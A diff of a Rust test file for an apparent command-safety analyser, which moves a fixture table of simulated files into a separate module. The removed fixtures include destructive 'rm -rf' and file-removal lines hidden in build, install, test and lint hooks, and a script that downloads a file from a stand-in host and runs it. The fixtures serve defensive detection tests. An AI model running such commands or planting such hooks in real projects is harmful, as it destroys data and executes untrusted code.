@@ -1,115 +1,18 @@
 //! What files with code do that a command runs: what they hold when they are looked at, unless the call changes them before.
 
-#[path = "shared/call.rs"]
+#[path = "../shared/call.rs"]
 mod call;
-#[path = "shared/machine.rs"]
+#[path = "../shared/machine.rs"]
 mod machine;
+mod there;
 
 use std::collections::BTreeSet;
 
-use castellan_event::{EffectKind, FileKind, Recorder, Role, Why};
+use castellan_event::{EffectKind, Recorder, Role, Why};
 use castellan_facts::{Setting, analyse};
 
 use machine::Machine;
-use machine::There::{self, Bytes, Kind, Link, Text};
-
-const THERE: &[(&str, There)] = &[
-    ("/w/build.sh", Text("#!/bin/sh\nset -e\nrm -rf \"$1\" /w/out\ncurl -o x https://a.example/x\n")),
-    ("/w/calm.sh", Text("echo hello\n")),
-    ("/w/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/conftest.py", Text("import os; os.remove('/w/far')\n")),
-    ("/w/lone.sh", Text("rm -rf /w/b\n")),
-    ("/w/linked.sh", Link("/w/build.sh")),
-    ("/w/.env", Text("export TOKEN=abc\nrm -rf /w/out\n")),
-    ("/w/alias.sh", Link("/w/fresh.sh")),
-    ("/w/fifo.sh", Kind(FileKind::Fifo)),
-    ("/w/null.sh", Kind(FileKind::Device)),
-    ("/w/folder.sh", Kind(FileKind::Directory)),
-    ("/w/locked.sh", Kind(FileKind::Unreadable)),
-    ("/w/latin.sh", Bytes(b"echo \xe9t\xe9\n")),
-    ("/w/elf.sh", Bytes(b"\x7fELF\x02\x01\x01\0")),
-    ("/w/long.sh", Kind(FileKind::File)),
-    ("/w/broken.sh", Text("if true; then\nrm -rf /w/out\n")),
-    ("/w/env.sh", Text("export PATH=/w/tools:$PATH\nlib() { rm -rf /w/out; }\n")),
-    ("/w/tool.py", Text("#!/usr/bin/env python3\nprint(1)\n")),
-    (
-        "/w/args.py",
-        Text("#!/usr/bin/env python3\nimport os, sys\nfor one in sys.argv[1:]:\n    os.remove(one)\n"),
-    ),
-    ("/w/uses.py", Text("import args\n")),
-    ("/w/args.rb", Text("system(ARGV[0])\n")),
-    ("/w/mymod.py", Text("import shutil\nshutil.rmtree('/w/out')\n")),
-    ("/w/pack", Kind(FileKind::Directory)),
-    ("/w/pack/__init__.py", Text("import os\nos.remove('/w/a')\n")),
-    ("/w/pack/__main__.py", Text("import os\nos.remove('/w/b')\n")),
-    ("/w/json/tool.py", Text("import os\nos.remove('/w/c')\n")),
-    ("/w/tests/test_a.py", Text("import shutil\nshutil.rmtree('/w/out')\n")),
-    ("/w/conftest.py", Text("import shutil\nshutil.rmtree('/w/fix')\n")),
-    ("/w/deep/a/conftest.py", Text("import os\ndef pytest_configure(config):\n    os.remove('/w/deeper')\n")),
-    ("/w/deep/setup.py", Text("import os\nos.remove('/w/egg')\n")),
-    ("/w/.eslintrc.js", Text("require('fs').rmSync('/w/lint')\nmodule.exports = {}\n")),
-    ("/w/tox.ini", Text("[testenv]\ncommands =\n    rm -rf {toxinidir}/cache\n")),
-    ("/w/Rakefile", Text("File.delete('/w/rake')\n")),
-    ("/w/Cargo.toml", Text("[workspace]\nmembers = [\"crates/a\", \"crates/b\"]\n")),
-    ("/w/crates/a/Cargo.toml", Text("[package]\nname = \"a\"\n")),
-    ("/w/crates/a/build.rs", Text("fn main() {}\n")),
-    ("/w/.cargo/config.toml", Text("[build]\nrustc-wrapper = \"rm /w/wrapped\"\n")),
-    ("/w/vite.config.js", Text("require('fs').rmSync('/w/conf', {recursive: true})\n")),
-    ("/w/ls", Text("#!/bin/sh\nrm -rf /w/s $1\n")),
-    ("/w/cat", Text("#!/usr/bin/env python3\nimport os\nos.remove('/w/c')\n")),
-    ("/w/head", Kind(FileKind::Fifo)),
-    ("/w/du", Bytes(b"\x7fELF\x02\x01\x01\0")),
-    ("/w/node_modules/.bin/ls", Text("rm -rf /w/n\n")),
-    ("/w/gradlew", Text("#!/bin/sh\nexec \"$JAVACMD\" \"$@\"\n")),
-    ("/w/app.zip", Bytes(b"PK\x03\x04\x00")),
-    (
-        "/w/Makefile",
-        Text(
-            "all: clean\nclean:\n\trm -rf out $(EXTRA)\nloop:\n\t$(MAKE) loop\nhome:\n\trm -r $(HOME)/x\nquoted:\n\trm -r '$(wildcard *)'\n",
-        ),
-    ),
-    ("/w/secret.mk", Text("-include .env\nall:\n\trm -rf out\n")),
-    ("/w/absent.mk", Text("-include absent\nall:\n\trm -rf out\n")),
-    ("/w/justfile", Text("wipe:\n    rm -rf out\n")),
-    (
-        "/w/package.json",
-        Text(
-            r#"{"scripts":{"preclean":"rm -rf a","clean":"rm -rf b","test":"rm -rf c","loop":"npm run loop","storm":"npm run storm & npm run storm","half":"bash none.sh; node lib/app","bring":"curl -so none.sh https://x.example; bash none.sh","postinstall":"rm -rf i","prepare":"rm -rf p","prepublishOnly":"rm -rf o"}}"#,
-        ),
-    ),
-    (
-        "/w/Taskfile.yml",
-        Text("tasks:\n  default: rm -rf d\n  wipe:\n    deps: [default]\n    cmds: [rm -rf out]\n"),
-    ),
-    ("/w/deno.json", Text(r#"{"tasks":{"wipe":"rm -rf out"}}"#)),
-    (
-        "/w/composer.json",
-        Text(r#"{"scripts":{"wipe":["@more"],"more":"rm -rf out","post-install-cmd":"rm -rf i"}}"#),
-    ),
-    ("/w/bash_env", Text("rm -rf /w/out\n")),
-    ("/w/sub", Kind(FileKind::Directory)),
-    ("/w/wheel.sh", Text("./wheel.sh\n")),
-    ("/w/grows.sh", Text("echo \"ls\" >> \"$0\"\n")),
-    ("/w/tees.sh", Text("echo ls | tee -a \"$0\"\n")),
-    ("/w/k1", Text("#!/bin/rm -rf\n")),
-    ("/w/k2", Text("#!/usr/bin/awk -f\nBEGIN { system(\"rm -rf /w/out\") }\n")),
-    ("/w/k3", Text("#!/usr/bin/env -S python3 -c 'import os; os.remove(\"/w/out\")'\n")),
-    ("/w/k4", Text("#!/w/gone\n")),
-    ("/w/k5", Text("#!/usr/bin/make -f\nall:\n\trm -rf out\n")),
-    ("/w/k6", Text("#!/usr/bin/env python3 -u\nimport os\nos.remove('/w/out')\n")),
-    ("/w/mono/package.json", Text(r#"{"workspaces":["libs/*"],"scripts":{"build":"rm -rf root"}}"#)),
-    ("/w/mono/libs/one/package.json", Text(r#"{"name":"@x/one","scripts":{"build":"rm -rf one"}}"#)),
-    ("/w/shelled/package.json", Text(r#"{"scripts":{"build":"ls"}}"#)),
-    ("/w/shelled/.npmrc", Text("script-shell=/w/gone\n")),
-    ("/w/gen.go", Text("package x\n//go:generate rm -rf out\nfunc f() {}\n")),
-    ("/w/tasks.py", Text("import shutil\nshutil.rmtree('/w/out')\n")),
-    ("/w/part.awk", Text("BEGIN { system(\"rm -rf /w/out\") }\n")),
-    (
-        "/w/.pre-commit-config.yaml",
-        Text(
-            "repos:\n- repo: local\n  hooks:\n  - id: a\n    language: system\n    entry: rm -rf out\n- repo: https://a.example/r\n  hooks:\n  - id: b\n    entry: rm -rf other\n",
-        ),
-    ),
-];
+use there::THERE;
 
 /// `delete PATH`, `download URL` and what is opaque, with `in SCRIPT` for what a file does.
 fn shown(text: &str, setting: &Setting) -> String {
